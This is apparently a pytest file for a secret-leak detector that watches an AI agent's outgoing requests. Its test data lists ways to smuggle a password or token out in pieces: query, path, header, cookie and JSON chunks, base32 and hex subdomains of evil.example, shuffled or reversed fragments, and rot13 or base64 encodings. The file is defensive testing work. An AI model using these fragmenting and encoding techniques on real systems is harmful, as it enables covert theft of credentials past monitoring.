"""What leaves in pieces."""

import base64
import codecs
import json
import random
from collections.abc import Callable, Iterator, Sequence
from typing import Any
from urllib.parse import quote

import pytest

from proctor.leaving.watch import Watch
from proctor.redaction.model import Spot
from tests.leaving.looking import AWS, GITHUB, PASSWORD, WHO, known, look


def cut(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def ways(value: str) -> Iterator[tuple[str, Sequence[dict[str, Any]]]]:
    """A secret in pieces, request by request."""
    for size in (1, 3, 5, 9):
        yield f"query {size}", [{"target": f"/c?d={quote(x)}"} for x in cut(value, size)]
    yield "path", [{"target": f"/c/{quote(x)}"} for x in cut(value, 4)]
    joined = "&".join(f"a{n}={quote(x)}" for n, x in enumerate(cut(value, 5)))
    yield "one query", [{"target": f"/c?{joined}"}]
    yield "header", [{"headers": {"x-data": x}} for x in cut(value, 5)]
    cookies = "; ".join(f"c{n}={x}" for n, x in enumerate(cut(value, 4)))
    yield "cookies", [{"headers": {"cookie": cookies}}]
    body = {"kind": "application/json"}
    rows = [json.dumps({"id": n, "v": x}).encode() for n, x in enumerate(cut(value, 5))]
    yield "JSON", [{"body": row, **body} for row in rows]
    yield "list", [{"body": json.dumps({"v": cut(value, 3)}).encode(), **body}]
    code = base64.b32encode(value.encode()).decode().rstrip("=").lower()
    yield "host names", [{"host": f"{x}.evil.example"} for x in cut(code, 8)]
    yield "hex", [{"host": f"{x}.evil.example"} for x in cut(value.encode().hex(), 12)]
    pieces = list(enumerate(cut(value, 5)))
    random.Random(3).shuffle(pieces)  # noqa: S311 - the same in every run
    yield "shuffled", [{"target": f"/c?part={n}&d={quote(x)}"} for n, x in pieces]
    yield "backwards", [{"target": f"/c?d={quote(x)}"} for x in cut(value, 5)[::-1]]
    mixed = [r for x in cut(value, 5) for r in (f"/c?d={quote(x)}", "/other?x=hello")]
    yield "with others between", [{"target": target} for target in mixed]


@pytest.mark.parametrize("value", [PASSWORD, GITHUB])
def test_a_known_secret_does_not_leave_in_pieces(value: str) -> None:
    for way, requests in ways(value):
        watch = Watch()
        known(watch, value)
        assert any(look(watch, **request)[1] for request in requests), way


@pytest.mark.parametrize("value", [AWS, GITHUB])
def test_nor_does_one_that_nobody_has_seen_whole(value: str) -> None:
    missed = [
        way
        for way, requests in ways(value)
        for watch in (Watch(),)
        if not any(look(watch, **request)[1] for request in requests)
    ]
    assert set(missed) <= {"host names"}, missed


def test_it_says_how_much_in_how_many_requests_and_from_where() -> None:
    watch = Watch()
    known(watch, PASSWORD)
    told = [look(watch, f"/c?d={x}")[1] for x in cut(PASSWORD, 5)]
    hit = next(hits[0] for hits in told if hits)
    assert hit.detector == "proctor:pieces"
    assert hit.words == "2 requests carried 60 % of a secret found in a tool's result"
    assert PASSWORD[:5] not in repr(hit)


def test_where_it_came_from_it_may_go() -> None:
    watch = Watch()
    spot = Spot(0, len(PASSWORD), "PASSWORD", "test", 1.0, PASSWORD)
    watch.learn(WHO, spot, "d", "an answer", home="api.example")
    assert not look(watch, f"/?p={PASSWORD}", host="api.example")[1]
    assert look(watch, f"/?p={PASSWORD}", host="evil.example")[1]
    assert watch.knows(WHO, "d")
    assert not watch.knows("somebody", "d")


def test_a_host_that_says_a_known_secret_makes_no_home_of_itself() -> None:
    watch = Watch()
    spot = Spot(0, len(PASSWORD), "PASSWORD", "test", 1.0, PASSWORD)
    watch.learn(WHO, spot, "d", "a tool's result")
    watch.learn(WHO, spot, "d", "an answer", home="evil.example")
    assert look(watch, f"/?p={PASSWORD}", host="evil.example")[1]


def test_what_was_met_elsewhere_is_no_longer_an_answers_alone() -> None:
    watch = Watch()
    spot = Spot(0, len(PASSWORD), "PASSWORD", "test", 1.0, PASSWORD)
    watch.learn(WHO, spot, "d", "an answer", home="api.example")
    secret = watch.memory.run(WHO).known.get("d")
    assert secret
    assert secret.came
    watch.learn(WHO, spot, "d", "a tool's result")
    assert not secret.came


def test_ids_are_no_secrets() -> None:
    watch = Watch()
    known(watch, "0b6f2f7e-5b0e-4d8e-9d59-3a7c6c1b2a10")
    assert not look(watch, "/0b6f2f7e-5b0e-4d8e-9d59-3a7c6c1b2a10")[1]


@pytest.mark.parametrize(
    ("turn", "how"),
    [
        (lambda value: value, ""),
        (lambda value: value[::-1], "reverse"),
        (lambda value: codecs.encode(value, "rot13"), "rot13"),
        (lambda value: value.encode().hex(), "hex"),
        (lambda value: base64.b64encode(value.encode()).decode(), "base64"),
        (lambda value: base64.b64encode(value.encode()).decode()[::-1], "reverse base64"),
    ],
)
def test_the_simplest_reading_is_the_first(turn: Callable[[str], str], how: str) -> None:
    watch = Watch()
    known(watch, GITHUB)
    hits = [hit for hit in look(watch, f"/?d={turn(GITHUB)}")[1] if hit.digest]
    assert hits[0].words == "100 % of a secret found in a tool's result" + (
        f", written in {how}" if how else ""
    )
    assert not [
        hit for hit in hits if "reverse in reverse" in hit.words or "rot13 in rot13" in hit.words
    ]
